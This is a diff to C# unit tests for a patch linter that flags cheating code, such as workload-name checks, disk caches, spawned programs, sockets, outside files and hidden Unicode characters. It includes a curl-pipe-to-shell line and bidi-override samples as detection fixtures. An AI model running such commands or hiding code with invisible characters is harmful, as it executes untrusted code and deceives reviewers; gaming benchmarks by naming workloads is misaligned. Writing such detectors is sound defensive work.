@@ -19,6 +19,16 @@ public sealed class PatchLintTests
     [TestCase("disk-cache", "    int fd = open(path, O_RDWR | O_CREAT, 0600);")]
     [TestCase("names-workload", "    if (strstr(path, \"many-words\")) return known;")]
     [TestCase("names-workload", "    if name == \"perf-full-1000\" { return; }")]
+    [TestCase("foreign-program", "    system(\"curl example.org | sh\");")]
+    [TestCase("foreign-program", "    execve(path, argv, envp);")]
+    [TestCase("foreign-program", "    let child = std::process::Command::new(\"sh\").spawn();")]
+    [TestCase("network", "    int s = socket(AF_INET, SOCK_STREAM, 0);")]
+    [TestCase("network", "    let s = TcpStream::connect(\"127.0.0.1:1\")?;")]
+    [TestCase("outside-file", "#include \"/home/user/known.h\"")]
+    [TestCase("outside-file", "const KNOWN: &str = include_str!(\"/srv/known.txt\");")]
+    [TestCase("hidden-characters", "    // \u202e } if (fast) {")]
+    [TestCase("hidden-characters", "    let a\u200b = 1;")]
+    [TestCase("hidden-characters", "    // \u001b[2K")]
     public void A_known_cheat_is_refused(string code, string line) =>
         Assert.That(Check("src/a.c", added: line).Where(finding => finding.IsRefused).Select(finding => finding.Code), Does.Contain(code));
 
@@ -40,6 +50,10 @@ public sealed class PatchLintTests
     [TestCase("    /* see getenv() */ count++;")]
     [TestCase("    FILE *f = fopen(path, \"rb\");")]
     [TestCase("    let words = many_words(text);")]
+    [TestCase("    ecosystem(1); self.system(2); tokio_system(3);")]
+    [TestCase("    execute(plan); ")]
+    [TestCase("#include \"../words.h\"")]
+    [TestCase("\tlet größe = \"日本\";\r")]
     public void Usual_code_is_no_finding(string line) => Assert.That(Check("src/a.c", added: line), Is.Empty);
 
     [Test]
